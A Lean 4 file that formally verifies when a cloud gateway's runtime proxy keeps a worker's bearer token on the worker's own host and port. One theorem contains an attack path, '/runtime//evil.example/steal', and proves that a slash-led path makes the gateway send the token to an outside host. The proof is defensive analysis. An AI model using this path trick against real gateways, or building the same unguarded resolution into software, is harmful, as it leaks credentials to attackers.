import NebulaCloud.Access.Gateway
import NebulaCloud.Platform.Url

namespace NebulaCloud.Access

open NebulaCloud.Data NebulaCloud.Database NebulaCloud.Platform

/-! # The runtime route

The route splits a pathname.  The gateway turns what follows `/runtime` into a
private URL and sends the runtime's bearer token there. -/

structure RuntimeRoute where
  encodedWorkspaceId : String
  runtimePath : String
deriving DecidableEq, Repr

def isLineTerminator (c : Char) : Bool :=
  c = '\n' || c = '\r' || c.toNat = 0x2028 || c.toNat = 0x2029

/-- `/^\/api\/workspaces\/([^/]+)\/runtime(?:\/(.*))?$/`; the path is `/` when the
second group is missing or empty. -/
def runtimeRoute (pathname : String) : Option RuntimeRoute := do
  let rest ← pathname.toList.dropPrefix? "/api/workspaces/".toList
  let encoded := rest.takeWhile (· ≠ '/')
  let rest ← (rest.dropWhile (· ≠ '/')).dropPrefix? "/runtime".toList
  if encoded = [] then none
  else
    match rest with
    | [] => some ⟨String.ofList encoded, "/"⟩
    | '/' :: suffix =>
        if suffix.any isLineTerminator then none
        else some ⟨String.ofList encoded, String.ofList ('/' :: suffix)⟩
    | _ => none

structure WorkerRuntimeAccess where
  address : String
  accessToken : String
deriving DecidableEq, Repr

/-- `url.search` of a URL with the given query. -/
def searchText : Option String → String
  | none => ""
  | some query => "?" ++ query

/-- `none` where the function or the URL parser throws. -/
def privateRuntimeURL (parseHost : List Char → Option String) (access : WorkerRuntimeAccess)
    (runtimePath search : String) : Option Url :=
  match parseHttpURL parseHost access.address with
  | none => none
  | some base =>
      if base.hostname = "" ∨ base.username ≠ [] ∨ base.password ≠ [] then none
      else
        let path :=
          match runtimePath.toList with
          | '/' :: rest => rest
          | relative => relative
        resolveRooted parseHost base (path ++ search.toList)

/-- The request that the gateway sends to a runtime. -/
structure RuntimeFetch where
  target : Url
  authorization : String
deriving DecidableEq, Repr

/-- `RuntimeGateway.proxy`, up to the upload limits.  `getRuntimeAccess` asks the
worker; it fails with whether the caller may retry. -/
def proxy (parseHost : List Char → Option String)
    (getRuntimeAccess : String → Except Bool WorkerRuntimeAccess) (workspace : WorkspaceRow)
    (runtimePath search : String) : Except GatewayError RuntimeFetch :=
  match getRuntimeAccess workspace.id with
  | .error retryable =>
      .error ⟨503, "runtime_access_unavailable", "workspace runtime is unavailable", retryable⟩
  | .ok access =>
      match privateRuntimeURL parseHost access runtimePath search with
      | none =>
          .error ⟨502, "runtime_address_invalid", "workspace runtime address is invalid", true⟩
      | some target => .ok { target, authorization := "Bearer " ++ access.accessToken }

/-- The whole route, from a pathname to the request sent on. -/
def proxyRuntime (parseHost : List Char → Option String)
    (getRuntimeAccess : String → Except Bool WorkerRuntimeAccess) (entitlementsRequired : Bool)
    (database : CloudDatabase) (session : Option AuthSession) (route : RuntimeRoute)
    (search : Option String) (now : Int) : Except GatewayError RuntimeFetch := do
  let workspace ← admitRuntime entitlementsRequired database session route.encodedWorkspaceId now
  proxy parseHost getRuntimeAccess workspace route.runtimePath (searchText search)

/-! ## What the resolver keeps of the base -/

/-- The path starts a network-path reference: a slash or a backslash follows the
first slash once tabs and line breaks are gone. -/
def slashLed (runtimePath : String) : Bool :=
  ((runtimePath.toList.drop 1).filter fun c => !isTabOrNewline c).head?.any isSlash

section Resolve

variable {parseHost : List Char → Option String} {base url : Url} {rest front back : List Char}

theorem head?_any_append {selected : Char → Bool} (later : back.head?.any selected = false) :
    (front ++ back).head?.any selected = front.head?.any selected := by
  cases front with
  | nil => simpa using later
  | cons c front => rfl

/-- The slash in front of a reference stays, and so does what follows it up to
the controls and spaces at the end. -/
theorem cleanInput_slash (rest : List Char) :
    ∃ kept removed, rest = kept ++ removed ∧ (∀ c ∈ removed, isControlOrSpace c = true) ∧
      cleanInput ('/' :: rest) = '/' :: kept.filter fun c => !isTabOrNewline c := by
  refine ⟨(rest.reverse.dropWhile isControlOrSpace).reverse,
    (rest.reverse.takeWhile isControlOrSpace).reverse, ?_, ?_, ?_⟩
  · rw [← List.reverse_append, List.takeWhile_append_dropWhile, List.reverse_reverse]
  · intro c member
    exact List.all_eq_true.mp List.all_takeWhile c (List.mem_reverse.mp member)
  · have front : ('/' :: rest).dropWhile isControlOrSpace = '/' :: rest := by
      simp [List.dropWhile, isControlOrSpace]
    have slash : ['/'].dropWhile isControlOrSpace = ['/'] := by decide
    unfold cleanInput
    rw [front, List.reverse_cons, List.dropWhile_append, slash]
    split
    · rename_i empty
      rw [List.isEmpty_iff] at empty
      simp [empty, isTabOrNewline]
    · simp [isTabOrNewline]

theorem resolveRooted_eq :
    resolveRooted parseHost base rest =
      if (rest.filter fun c => !isTabOrNewline c).head?.any isSlash = true then
        ignoreSlashes parseHost (cleanInput ('/' :: rest))
      else some base := by
  obtain ⟨kept, removed, split, trailing, cleaned⟩ := cleanInput_slash rest
  have noSlash : (removed.filter fun c => !isTabOrNewline c).head?.any isSlash = false := by
    cases first : removed.filter fun c => !isTabOrNewline c with
    | nil => rfl
    | cons c others =>
        have member : c ∈ removed := List.mem_of_mem_filter (first ▸ List.mem_cons_self)
        have control := trailing c member
        simp only [List.head?_cons, Option.any_some]
        by_contra slash
        simp only [isSlash, Bool.not_eq_false, Bool.or_eq_true, decide_eq_true_eq] at slash
        rcases slash with rfl | rfl <;> exact absurd control (by decide)
  have sameHead : (rest.filter fun c => !isTabOrNewline c).head?.any isSlash =
      (kept.filter fun c => !isTabOrNewline c).head?.any isSlash := by
    rw [split, List.filter_append]
    exact head?_any_append noSlash
  unfold resolveRooted
  rw [sameHead, cleaned, List.drop_succ_cons, List.drop_zero]
  cases text : kept.filter fun c => !isTabOrNewline c with
  | nil => simp [relativeSlashState]
  | cons c others =>
      have head : (c :: others).head?.any isSlash = isSlash c := rfl
      rw [relativeSlashState]
      by_cases slash : isSlash c = true
      · have both : ('/' :: c :: others).dropWhile isSlash = others.dropWhile isSlash := by
          rw [List.dropWhile_cons_of_pos (by decide), List.dropWhile_cons_of_pos slash]
        rw [if_pos slash, if_pos (head.trans slash), ignoreSlashes, ignoreSlashes, both]
      · rw [if_neg slash, if_neg (head ▸ slash)]

end Resolve

section Confined

variable {parseHost : List Char → Option String} {access : WorkerRuntimeAccess}
  {pathname runtimePath : String} {route : RuntimeRoute} {search : Option String} {base url : Url}

/-- The route yields a rooted path. -/
theorem runtimeRoute_rooted (matched : runtimeRoute pathname = some route) :
    ∃ suffix, route.runtimePath.toList = '/' :: suffix := by
  unfold runtimeRoute at matched
  simp only [Option.bind_eq_bind, Option.bind_eq_some_iff] at matched
  obtain ⟨_, _, rest, _, matched⟩ := matched
  split at matched
  · cases matched
  · split at matched
    · cases matched
      exact ⟨[], by simp⟩
    · rename_i suffix _
      split at matched
      · cases matched
      · cases matched
        exact ⟨suffix, by simp⟩
    · cases matched

/-- The base is kept unless the path is slash-led; then the authority comes from
the path. -/
theorem privateRuntimeURL_eq (search : Option String) (rooted : ∃ suffix, runtimePath.toList = '/' :: suffix)
    (parsed : parseHttpURL parseHost access.address = some base)
    (accepted : ¬ (base.hostname = "" ∨ base.username ≠ [] ∨ base.password ≠ [])) :
    privateRuntimeURL parseHost access runtimePath (searchText search) =
      if slashLed runtimePath = true then
        ignoreSlashes parseHost (cleanInput (runtimePath ++ searchText search).toList)
      else some base := by
  obtain ⟨suffix, path⟩ := rooted
  have query : ((searchText search).toList.filter fun c => !isTabOrNewline c).head?.any isSlash =
      false := by
    cases search with
    | none => rfl
    | some query => simp [searchText, isTabOrNewline, isSlash]
  have sameHead : ((suffix ++ (searchText search).toList).filter fun c =>
      !isTabOrNewline c).head?.any isSlash = slashLed runtimePath := by
    rw [List.filter_append, head?_any_append query, slashLed, path]
    rfl
  simp only [privateRuntimeURL, parsed, if_neg accepted, path]
  rw [resolveRooted_eq, sameHead, String.toList_append, path, List.cons_append]

/-- Every URL that the gateway builds for the pathname has the host and port of
the worker's address, and every request that it sends on carries the token of an
access to the host and port of that access. -/
def CredentialConfined (parseHost : List Char → Option String) (pathname : String)
    (search : Option String) : Prop :=
  ∀ route, runtimeRoute pathname = some route →
    (∀ access base url, parseHttpURL parseHost access.address = some base →
      privateRuntimeURL parseHost access route.runtimePath (searchText search) = some url →
      url.hostname = base.hostname ∧ url.port = base.port) ∧
    ∀ getRuntimeAccess entitlementsRequired database session now fetch,
      proxyRuntime parseHost getRuntimeAccess entitlementsRequired database session route search
        now = .ok fetch →
      ∃ workspaceId access base, getRuntimeAccess workspaceId = .ok access ∧
        parseHttpURL parseHost access.address = some base ∧
        fetch.target.hostname = base.hostname ∧ fetch.target.port = base.port ∧
        fetch.authorization = "Bearer " ++ access.accessToken

theorem privateRuntimeURL_some {runtimePath search : String}
    (built : privateRuntimeURL parseHost access runtimePath search = some url) :
    ∃ base, parseHttpURL parseHost access.address = some base ∧
      ¬ (base.hostname = "" ∨ base.username ≠ [] ∨ base.password ≠ []) := by
  unfold privateRuntimeURL at built
  split at built
  · cases built
  · rename_i base parsed
    split at built
    · cases built
    · rename_i accepted
      exact ⟨base, parsed, accepted⟩

theorem proxyRuntime_ok {getRuntimeAccess : String → Except Bool WorkerRuntimeAccess}
    {entitlementsRequired : Bool} {database : CloudDatabase} {session : Option AuthSession}
    {now : Int} {fetch : RuntimeFetch}
    (sent : proxyRuntime parseHost getRuntimeAccess entitlementsRequired database session route
      search now = .ok fetch) :
    ∃ workspaceId access, getRuntimeAccess workspaceId = .ok access ∧
      privateRuntimeURL parseHost access route.runtimePath (searchText search) = some fetch.target ∧
      fetch.authorization = "Bearer " ++ access.accessToken := by
  obtain ⟨workspace, _, sent⟩ := bind_ok.mp sent
  unfold proxy at sent
  split at sent
  · cases sent
  · rename_i access issued
    split at sent
    · cases sent
    · rename_i target built
      cases sent
      exact ⟨workspace.id, access, issued, built, rfl⟩

/-- An address on the loopback host has that host and its port. -/
theorem parseHttpURL_loopback (access : WorkerRuntimeAccess) {port : List Char} {number : Nat}
    (loopback : parseHost "127.0.0.1".toList = some "127.0.0.1")
    (address : access.address = String.ofList ("127.0.0.1:".toList ++ port))
    (cleaned : cleanInput ("http://127.0.0.1:".toList ++ port) = "http://127.0.0.1:".toList ++ port)
    (digit : ∀ c ∈ port, c.isDigit = true) (read : finishPort port = some (some number)) :
    parseHttpURL parseHost access.address =
      some { username := [], password := [], hostname := "127.0.0.1", port := some number } := by
  have whole : ("http://" ++ access.address).toList = "http://127.0.0.1:".toList ++ port := by
    have inner : access.address.toList = "127.0.0.1:".toList ++ port := by
      rw [address]
      exact String.toList_ofList
    rw [String.toList_append, inner]
    rfl
  have authority : (("http://127.0.0.1:".toList ++ port).drop "http:".length).dropWhile isSlash =
      "127.0.0.1".toList ++ ':' :: port := rfl
  unfold parseHttpURL ignoreSlashes
  rw [whole, cleaned, authority,
    parseAuthority_hostPort (by decide) (by decide) digit, loopback, read]
  rfl

/-- A path that spells an address spells the port of every runtime on this host. -/
theorem CredentialConfined.port (confined : CredentialConfined parseHost pathname search)
    (loopback : parseHost "127.0.0.1".toList = some "127.0.0.1") (matched : runtimeRoute pathname = some route)
    (led : slashLed route.runtimePath = true)
    (spelled : ignoreSlashes parseHost (cleanInput (route.runtimePath ++ searchText search).toList) = some url)
    {port : List Char} {number : Nat}
    (cleaned : cleanInput ("http://127.0.0.1:".toList ++ port) = "http://127.0.0.1:".toList ++ port)
    (digit : ∀ c ∈ port, c.isDigit = true) (read : finishPort port = some (some number)) :
    url.port = some number := by
  let access : WorkerRuntimeAccess := ⟨String.ofList ("127.0.0.1:".toList ++ port), "token"⟩
  have parsed := parseHttpURL_loopback access loopback rfl cleaned digit read
  have built := privateRuntimeURL_eq search (runtimeRoute_rooted matched) parsed (by simp)
  rw [if_pos led, spelled] at built
  exact ((confined route matched).1 _ _ url parsed built).2

/-- A path that spells no address stays on the host and port of the runtime. -/
theorem privateRuntimeURL_confined (rooted : ∃ suffix, runtimePath.toList = '/' :: suffix)
    (unspelled : slashLed runtimePath = true →
      ignoreSlashes parseHost (cleanInput (runtimePath ++ searchText search).toList) = none)
    (parsed : parseHttpURL parseHost access.address = some base)
    (built : privateRuntimeURL parseHost access runtimePath (searchText search) = some url) :
    url.hostname = base.hostname ∧ url.port = base.port := by
  obtain ⟨other, parsedOther, accepted⟩ := privateRuntimeURL_some built
  rw [parsed] at parsedOther
  cases parsedOther
  rw [privateRuntimeURL_eq search rooted parsed accepted] at built
  split at built
  · rename_i led
    rw [unspelled led] at built
    cases built
  · cases built
    exact ⟨rfl, rfl⟩

/-- The token stays with its runtime exactly when the path is not slash-led, or
what follows its slashes is no authority the URL parser accepts. -/
theorem credentialConfined_iff (parseHost : List Char → Option String) (pathname : String)
    (search : Option String) (loopback : parseHost "127.0.0.1".toList = some "127.0.0.1") :
    CredentialConfined parseHost pathname search ↔
      ∀ route, runtimeRoute pathname = some route → slashLed route.runtimePath = true →
        ignoreSlashes parseHost (cleanInput (route.runtimePath ++ searchText search).toList) =
          none := by
  constructor
  · intro confined route matched led
    cases spelled : ignoreSlashes parseHost
        (cleanInput (route.runtimePath ++ searchText search).toList) with
    | none => rfl
    | some url =>
        -- Two runtimes on one host cannot both own the port that the path spells.
        have first : url.port = some 3001 :=
          @CredentialConfined.port parseHost pathname route search url confined loopback matched led spelled
            "3001".toList 3001 (by decide +kernel) (List.all_eq_true.mp (by decide)) (by decide +kernel)
        have second : url.port = some 3002 :=
          @CredentialConfined.port parseHost pathname route search url confined loopback matched led spelled
            "3002".toList 3002 (by decide +kernel) (List.all_eq_true.mp (by decide)) (by decide)
        rw [first] at second
        cases second
  · intro unspelled route matched
    have confined : ∀ access base url, parseHttpURL parseHost access.address = some base →
        privateRuntimeURL parseHost access route.runtimePath (searchText search) = some url →
        url.hostname = base.hostname ∧ url.port = base.port :=
      fun access base url => privateRuntimeURL_confined (runtimeRoute_rooted matched) (unspelled route matched)
    refine ⟨confined, ?_⟩
    intro getRuntimeAccess entitlementsRequired database session now fetch sent
    obtain ⟨workspaceId, access, issued, built, authorization⟩ := proxyRuntime_ok sent
    obtain ⟨base, parsed, _⟩ := privateRuntimeURL_some built
    obtain ⟨sameHost, samePort⟩ := confined access base fetch.target parsed built
    exact ⟨workspaceId, access, base, issued, parsed, sameHost, samePort, authorization⟩

end Confined

/-- A path that names its own host takes the token there. -/
theorem credential_leaves_through_network_path :
    ¬ CredentialConfined plainHost "/api/workspaces/w1/runtime//evil.example/steal" none := by
  intro confined
  have matched : runtimeRoute "/api/workspaces/w1/runtime//evil.example/steal" =
      some ⟨"w1", "//evil.example/steal"⟩ := by decide
  have issued : parseHttpURL plainHost "10.0.0.4:3000" = some ⟨[], [], "10.0.0.4", some 3000⟩ := by
    decide
  have built : privateRuntimeURL plainHost ⟨"10.0.0.4:3000", "token"⟩ "//evil.example/steal"
      (searchText none) = some ⟨[], [], "evil.example", none⟩ := by decide
  have sameHost := ((confined ⟨"w1", "//evil.example/steal"⟩ matched).1
    ⟨"10.0.0.4:3000", "token"⟩ ⟨[], [], "10.0.0.4", some 3000⟩ ⟨[], [], "evil.example", none⟩
    issued built).1
  exact absurd sameHost (by decide)

/-- A path below the runtime keeps the token. -/
theorem credentialConfined_chats :
    CredentialConfined plainHost "/api/workspaces/w1/runtime/chats" (some "page=2") := by
  have matched : runtimeRoute "/api/workspaces/w1/runtime/chats" = some ⟨"w1", "/chats"⟩ := by
    decide
  apply (credentialConfined_iff plainHost "/api/workspaces/w1/runtime/chats" (some "page=2")
    (by decide)).mpr
  intro route found led
  rw [matched] at found
  cases found
  exact absurd led (by decide)

end NebulaCloud.Access
